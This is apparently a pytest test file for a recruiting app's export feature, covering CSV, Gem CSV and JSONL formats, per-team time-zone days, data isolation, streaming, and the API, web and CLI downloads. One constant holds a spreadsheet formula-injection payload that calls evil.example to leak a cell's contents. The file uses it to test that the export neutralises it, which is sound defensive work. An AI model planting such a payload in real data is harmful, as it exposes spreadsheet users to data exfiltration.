"""Streamed exports (SPEC §7): every format's columns and values, the days in the team's time
zone, what is left out, SPEC §7's CSV rule, and the API, the web downloads and the CLI."""

from __future__ import annotations

import csv
import io
import json
import re
from contextlib import closing
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import event
from sqlalchemy.orm import Session

from reachout.db import Database
from reachout.models import Candidate, Team, User
from reachout.models.enums import Channel, DesignationChoice, Kind, ReplyStatus
from reachout.touchpoints import service as touchpoints
from reachout.touchpoints.schemas import TouchpointCreate
from reachout.transfer import candidate_import, export_stream, exports, gem
from reachout.transfer.export_stream import Export
from reachout.transfer.exports import ExportTeam
from tests.conftest import LiveServer
from tests.factories import World, at, make_candidate, make_project
from tests.security.conftest import WebClient
from tests.test_cli import assert_one_line_error, run_cli

ZONE = "America/New_York"  # EST (UTC-5) from 1 Nov 2026
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
PHONE = "+1 555 0100"
NOTE = "-call back after the holidays"
FILENAME = re.compile(
    r'attachment; filename="reachout-(\w+(?:-gem)?)-\d{4}-\d{2}-\d{2}\.(csv|jsonl)"'
)


@dataclass
class History:
    world: World
    ana: int  # Ana María de la Cruz: two emails, a phone, in Backend
    hostile: int  # named like a formula, no email
    prince: int  # one word
    project: int


def _log(session: Session, actor: User, candidate: int, when: str, **fields: Any) -> int:
    data = TouchpointCreate.model_validate(
        {"candidate_id": candidate, "occurred_at": at(when), **fields}
    )
    return touchpoints.log_touchpoint(session, actor=actor, data=data).id


@pytest.fixture
def history(db: Database, world: World) -> History:
    """Team A (New York) with six live touchpoints around day boundaries, a deleted touchpoint,
    a deleted candidate's touchpoint; team B with one touchpoint of its own."""
    with db.unit_of_work() as s:
        s.get_one(Team, world.team.id).time_zone = ZONE
        admin, member = s.get_one(User, world.admin.id), s.get_one(User, world.member.id)
        ana = make_candidate(
            s,
            team=world.team,
            name="Ana María de la Cruz",
            emails=["ana@example.org", "ana.alt@example.org"],
            phone=PHONE,
            linkedin_url="https://www.linkedin.com/in/ana-cruz",
            title="Staff Engineer",
            company="Globex",
            location="Lisbon",
        )
        hostile = make_candidate(s, team=world.team, name=HOSTILE, emails=[])
        prince = make_candidate(s, team=world.team, name="Prince")
        gone = make_candidate(s, team=world.team, name="Gone Away")
        project = make_project(s, team=world.team, name="Backend", candidates=[ana])
        email, text = Channel.email, Channel.text
        # 23:30 on 1 Nov in New York; its UTC day is 2 Nov.
        _log(s, admin, ana.id, "2026-11-02 04:30", channel=email, project_id=project.id,
             designation=DesignationChoice.initial, note=NOTE)  # fmt: skip
        _log(s, admin, ana.id, "2026-11-02 15:00", channel=Channel.inmail, user_id=member.id,
             on_behalf_of_user_id=admin.id, designation=DesignationChoice.follow_up)  # fmt: skip
        # 23:30 on 2 Nov in New York; its UTC day is 3 Nov.
        _log(s, admin, ana.id, "2026-11-03 04:30", channel=email, kind=Kind.reply,
             reply_status=ReplyStatus.interested)  # fmt: skip
        _log(s, member, hostile.id, "2026-11-03 05:30", channel=Channel.call)
        _log(s, admin, prince.id, "2026-11-04 12:00", channel=text)
        _log(s, admin, prince.id, "2026-11-05 12:00", channel=text, kind=Kind.reply)
        deleted = _log(s, admin, prince.id, "2026-11-06 12:00", channel=text)
        touchpoints.delete_touchpoint(s, actor=admin, touchpoint_id=deleted)
        _log(s, admin, gone.id, "2026-11-04 13:00", channel=email)
        s.get_one(Candidate, gone.id).deleted_at = datetime.now(UTC)
        outsider = s.get_one(User, world.outsider.id)
        stranger = make_candidate(s, team=world.other_team, name="Stranger Danger")
        _log(s, outsider, stranger.id, "2026-11-02 15:00", channel=email)
        return History(world, ana.id, hostile.id, prince.id, project.id)


def _team(db: Database, team_id: int) -> ExportTeam:
    with db.unit_of_work(write=False) as s:
        return ExportTeam.of(s.get_one(Team, team_id))


def _text(export: Export) -> str:
    return "".join(export.chunks())


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _jsonl(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


def _seconds(when: str) -> str:
    return str(int(at(when).timestamp()))


# --- formats ---------------------------------------------------------------------------------


def test_gem_has_gems_columns_and_vocabulary(db: Database, history: History) -> None:
    w = history.world
    admin, member = w.admin.user, w.member.user
    rows = _csv(_text(exports.touchpoints_export(db, team=_team(db, w.team.id), format="gem")))
    assert rows[0] == list(gem.COLUMNS)
    ana, hostile, prince = str(history.ana), str(history.hostile), str(history.prince)
    ana_cells = [ana, "", "Ana", "María de la Cruz", "ana@example.org"]
    assert rows[1:] == [
        [_seconds("2026-11-02 04:30"), admin.name, admin.email, *ana_cells,
         "First Outreach", "Email", ""],
        [_seconds("2026-11-02 15:00"), member.name, member.email, *ana_cells,
         "Follow-up", "Inmail", ""],
        [_seconds("2026-11-03 04:30"), admin.name, admin.email, *ana_cells,
         "Reply", "Email", "Interested"],
        # A name with no space is all first name; no email is an empty cell; a formula is quoted.
        [_seconds("2026-11-03 05:30"), member.name, member.email, hostile, "", "'" + HOSTILE, "",
         "", "First Outreach", "Phone Call", ""],
        [_seconds("2026-11-04 12:00"), admin.name, admin.email, prince, "", "Prince", "",
         rows[5][7], "First Outreach", "Text Message", ""],
        [_seconds("2026-11-05 12:00"), admin.name, admin.email, prince, "", "Prince", "",
         rows[5][7], "Reply", "Text Message", ""],
    ]  # fmt: skip
    assert rows[5][7].endswith("@example.org")


def test_csv_has_reachouts_columns_with_injection_quoting(db: Database, history: History) -> None:
    w = history.world
    team = _team(db, w.team.id)
    rows = _csv(_text(exports.touchpoints_export(db, team=team, format="csv")))
    assert rows[0] == list(exports.TOUCHPOINT_COLUMNS)
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first | {"id": "", "created_at": ""} == {
        "id": "",
        "occurred_at": "2026-11-02T04:30:00Z",
        "local_day": "2026-11-01",
        "kind": "outreach",
        "channel": "email",
        "designation": "initial",
        "designation_mode": "explicit",
        "reply_status": "",
        "note": "'" + NOTE,
        "candidate_id": str(history.ana),
        "candidate_name": "Ana María de la Cruz",
        "candidate_email": "ana@example.org",
        "project_id": str(history.project),
        "project_name": "Backend",
        "user_id": str(w.admin.id),
        "user_email": w.admin.user.email,
        "on_behalf_of_user_email": "",
        "source": "manual",
        "batch_id": "",
        "sequence_id": "",
        "sequence_stage": "",
        "created_at": "",
    }
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", first["created_at"])
    second = dict(zip(rows[0], rows[2], strict=True))
    assert second["user_email"] == w.member.user.email
    assert second["on_behalf_of_user_email"] == w.admin.user.email
    assert [r[rows[0].index("candidate_name")] for r in rows[1:]] == [
        *["Ana María de la Cruz"] * 3,
        "'" + HOSTILE,
        "Prince",
        "Prince",
    ]


def test_jsonl_carries_values_unchanged(db: Database, history: History) -> None:
    team = _team(db, history.world.team.id)
    text = _text(exports.touchpoints_export(db, team=team, format="jsonl"))
    records = _jsonl(text)
    assert [list(r) for r in records] == [list(exports.TOUCHPOINT_COLUMNS)] * 6
    first, hostile = records[0], records[3]
    assert first["note"] == NOTE
    assert first["occurred_at"] == "2026-11-02T04:30:00Z"
    assert (first["local_day"], first["candidate_id"]) == ("2026-11-01", history.ana)
    assert (first["project_id"], first["batch_id"], first["reply_status"]) == (
        history.project,
        None,
        None,
    )
    assert (hostile["candidate_name"], hostile["candidate_email"]) == (HOSTILE, None)
    assert records[2]["reply_status"] == "interested"
    assert "María" in text  # not \u-escaped


def test_candidates_csv_and_jsonl(db: Database, history: History) -> None:
    team = _team(db, history.world.team.id)
    rows = _csv(_text(exports.candidates_export(db, team=team, format="csv")))
    assert rows[0] == list(exports.CANDIDATE_COLUMNS)
    by_id = {int(r[0]): dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert list(by_id) == [history.ana, history.hostile, history.prince]  # not the deleted one
    ana = by_id[history.ana]
    assert ana["emails"] == "ana@example.org; ana.alt@example.org"
    assert (ana["phone"], ana["projects"]) == ("'" + PHONE, "Backend")
    assert (ana["title"], ana["company"], ana["location"]) == ("Staff Engineer", "Globex", "Lisbon")
    assert by_id[history.hostile]["name"] == "'" + HOSTILE
    assert by_id[history.hostile]["emails"] == by_id[history.hostile]["projects"] == ""

    records = _jsonl(_text(exports.candidates_export(db, team=team, format="jsonl")))
    assert [r["id"] for r in records] == [history.ana, history.hostile, history.prince]
    assert records[0]["emails"] == ["ana@example.org", "ana.alt@example.org"]
    assert (records[0]["phone"], records[0]["projects"]) == (PHONE, ["Backend"])
    assert records[1]["name"] == HOSTILE
    assert records[1]["emails"] == records[1]["projects"] == []
    assert records[0]["linkedin_url"] == "https://www.linkedin.com/in/ana-cruz"
    assert records[0]["created_at"].endswith("Z")


def test_the_candidates_csv_re_imports_as_it_was(db: Database, history: History) -> None:
    w = history.world
    data = _text(exports.candidates_export(db, team=_team(db, w.team.id), format="csv"))
    with db.unit_of_work() as s:
        result = candidate_import.import_candidates(
            s, actor=s.get_one(User, w.outsider.id), data=data.encode()
        )
    assert (result.created, result.invalid) == (3, [])
    again = _jsonl(
        _text(exports.candidates_export(db, team=_team(db, w.other_team.id), format="jsonl"))
    )
    original = _jsonl(
        _text(exports.candidates_export(db, team=_team(db, w.team.id), format="jsonl"))
    )
    fields = ("name", "emails", "phone", "linkedin_url", "title", "company", "location")
    copied = {r["name"]: [r[f] for f in fields] for r in again}
    assert {r["name"]: [r[f] for f in fields] for r in original}.items() <= copied.items()


# --- what an export holds --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("first", "last", "expected"),
    [
        # The team's days, not UTC's: 04:30 UTC on 2 Nov is 1 Nov, 04:30 on 3 Nov is 2 Nov.
        ("2026-11-02", "2026-11-02", ["2026-11-02 15:00", "2026-11-03 04:30"]),
        ("2026-11-01", "2026-11-01", ["2026-11-02 04:30"]),
        ("2026-11-03", None, ["2026-11-03 05:30", "2026-11-04 12:00", "2026-11-05 12:00"]),
        (None, "2026-11-01", ["2026-11-02 04:30"]),
        ("2026-11-07", "2026-12-31", []),
    ],
)
def test_from_and_to_are_days_in_the_teams_time_zone(
    db: Database, history: History, first: str | None, last: str | None, expected: list[str]
) -> None:
    team = _team(db, history.world.team.id)
    export = exports.touchpoints_export(db, team=team, format="gem", from_=first, to=last)
    rows = _csv(_text(export))
    assert [r[0] for r in rows[1:]] == [_seconds(when) for when in expected]


def test_another_teams_data_is_never_in_an_export(db: Database, history: History) -> None:
    ours = _team(db, history.world.team.id)
    theirs = _team(db, history.world.other_team.id)
    for export_format in ("gem", "csv", "jsonl"):
        text = _text(exports.touchpoints_export(db, team=ours, format=export_format))
        assert "Stranger" not in text and "Gone Away" not in text
    assert "Stranger" not in _text(exports.candidates_export(db, team=ours, format="csv"))
    records = _jsonl(_text(exports.touchpoints_export(db, team=theirs, format="jsonl")))
    assert [r["candidate_name"] for r in records] == ["Stranger Danger"]
    assert [
        r["name"] for r in _jsonl(_text(exports.candidates_export(db, team=theirs, format="jsonl")))
    ] == ["Stranger Danger"]


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"format": "xml"}, "format"),
        ({"from": "2026-13-01"}, "from"),
        ({"to": "20261105"}, "to"),
        ({"from": "1800-01-01"}, "from"),
        ({"from": "2026-11-05", "to": "2026-11-04"}, "to"),
    ],
)
def test_bad_parameters_are_a_422_naming_the_field(
    client: httpx.Client, world: World, params: dict[str, str], field: str
) -> None:
    r = client.get("/exports/touchpoints", params=params, headers=world.admin.headers)
    assert r.status_code == 422, r.text
    assert r.headers["content-type"] == "application/problem+json"
    assert field in [e["field"] for e in r.json()["errors"]]


def test_candidates_have_no_gem_format(client: httpx.Client, world: World) -> None:
    r = client.get("/exports/candidates", params={"format": "gem"}, headers=world.admin.headers)
    assert r.status_code == 422
    assert r.json()["errors"] == [{"field": "format", "message": "must be one of: csv, jsonl"}]


# --- the API, the web downloads, the CLI -----------------------------------------------------


@pytest.mark.parametrize(
    ("path", "export_format", "media_type", "name"),
    [
        ("/exports/touchpoints", "gem", "text/csv; charset=utf-8", "touchpoints-gem"),
        ("/exports/touchpoints", "jsonl", "application/x-ndjson", "touchpoints"),
        ("/exports/candidates", "csv", "text/csv; charset=utf-8", "candidates"),
    ],
)
def test_the_api_answers_a_download(
    db: Database,
    client: httpx.Client,
    history: History,
    path: str,
    export_format: str,
    media_type: str,
    name: str,
) -> None:
    w = history.world
    r = client.get(path, params={"format": export_format}, headers=w.member.headers)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == media_type
    found = FILENAME.fullmatch(r.headers["content-disposition"])
    assert found and found.group(1) == name
    team = _team(db, w.team.id)
    make = exports.candidates_export if "candidates" in path else exports.touchpoints_export
    assert r.text == _text(make(db, team=team, format=export_format))
    assert client.get(path).status_code == 401


def test_the_web_downloads(live_server: LiveServer, db: Database, history: History) -> None:
    with httpx.Client(base_url=live_server.url, timeout=30) as http:
        web = WebClient(http)
        web.sign_in(history.world.member.user.email)
        r = http.get("/candidates/export", params={"format": "csv"})
        assert r.status_code == 200, r.text
        assert r.headers["content-type"] == "text/csv; charset=utf-8"
        assert FILENAME.fullmatch(r.headers["content-disposition"])
        assert [row[1] for row in _csv(r.text)[1:]] == [
            "Ana María de la Cruz",
            "'" + HOSTILE,
            "Prince",
        ]
        params = {"format": "jsonl", "from": "2026-11-02", "to": "2026-11-02"}
        r = http.get("/touchpoints/export", params=params)
        assert r.status_code == 200, r.text
        assert [t["occurred_at"] for t in _jsonl(r.text)] == [
            "2026-11-02T15:00:00Z",
            "2026-11-03T04:30:00Z",
        ]
        bad = http.get("/touchpoints/export", params={"format": "gem", "from": "yesterday"})
        assert bad.status_code == 422
        assert "must be a date" in bad.text
    with httpx.Client(base_url=live_server.url, timeout=30) as anonymous:
        r = anonymous.get("/candidates/export", params={"format": "csv"})
        assert r.status_code == 303
        assert r.headers["location"].startswith("/sign-in?next=")


def test_the_cli_writes_to_stdout_or_a_file(db: Database, history: History, tmp_path: Path) -> None:
    url, team = db.settings.database_url, history.world.team.name
    expected = _text(
        exports.touchpoints_export(db, team=_team(db, history.world.team.id), format="gem")
    )
    result = run_cli(url, "export", "touchpoints", "--team", team, "--format", "gem")
    assert result.exit_code == 0, result.stderr
    assert result.stdout == expected

    target = tmp_path / "candidates.jsonl"
    result = run_cli(
        url, "export", "candidates", "--team", team, "--format", "jsonl", "--output", str(target)
    )
    assert result.exit_code == 0, result.stderr
    assert result.stdout == f"Wrote 3 candidates to {target}.\n"
    assert [r["id"] for r in _jsonl(target.read_text(encoding="utf-8"))] == [
        history.ana,
        history.hostile,
        history.prince,
    ]
    assert list(tmp_path.iterdir()) == [target]

    result = run_cli(
        url,
        "export",
        "touchpoints",
        "--team",
        team,
        "--format",
        "csv",
        "--from",
        "2026-11-03",
        "--to",
        "2026-11-03",
    )
    assert [r[1] for r in _csv(result.stdout)[1:]] == ["2026-11-03T05:30:00Z"]


def test_cli_errors_are_one_line(db: Database, history: History, tmp_path: Path) -> None:
    url = db.settings.database_url
    result = run_cli(url, "export", "touchpoints", "--team", "Nobody Inc", "--format", "gem")
    assert_one_line_error(result, "no team named 'Nobody Inc'")
    team = history.world.team.name
    target = tmp_path / "out.csv"
    args = ("--team", team, "--format", "csv", "--from", "2026-11-31", "--output", str(target))
    result = run_cli(url, "export", "touchpoints", *args)
    assert_one_line_error(result, "--from: must be a date, YYYY-MM-DD")
    assert not target.exists()


# --- streaming -------------------------------------------------------------------------------


def test_the_rows_are_read_as_the_text_is_taken(
    db: Database, history: History, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first chunk comes out with the driver's cursor still holding all but FETCH_ROWS of
    the rows: nothing reads them all ahead, in the driver or in the export."""
    monkeypatch.setattr(export_stream, "CHUNK_CHARS", 1)
    monkeypatch.setattr(export_stream, "FETCH_ROWS", 2)
    cursors: list[Any] = []

    def seen(conn: Any, cursor: Any, statement: str, *_: Any) -> None:
        if "FROM touchpoint" in statement:
            cursors.append(cursor)

    team = _team(db, history.world.team.id)
    chunks = exports.touchpoints_export(db, team=team, format="jsonl").chunks()
    # Closed whatever happens: an export left open holds its read transaction, and the
    # database could not be emptied after the test.
    with closing(chunks):
        event.listen(db.engine, "before_cursor_execute", seen)
        try:
            assert len(_jsonl(next(chunks))) == 1
        finally:
            event.remove(db.engine, "before_cursor_execute", seen)
        [cursor] = cursors
        if db.dialect == "postgresql":
            # psycopg's plain cursor holds a whole result once executed; a named one fetches
            # from the server as it is read.
            assert type(cursor).__name__ == "ServerCursor"
        assert len(cursor.fetchall()) >= 6 - 2


def test_the_api_sends_the_export_in_several_chunks(
    client: httpx.Client, history: History, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_stream, "CHUNK_CHARS", 100)
    params = {"format": "csv"}
    with client.stream(
        "GET", "/exports/touchpoints", params=params, headers=history.world.admin.headers
    ) as r:
        assert r.status_code == 200
        assert "content-length" not in r.headers
        pieces = list(r.iter_raw())
    assert len(pieces) > 2
    assert len(_csv(b"".join(pieces).decode())) == 7
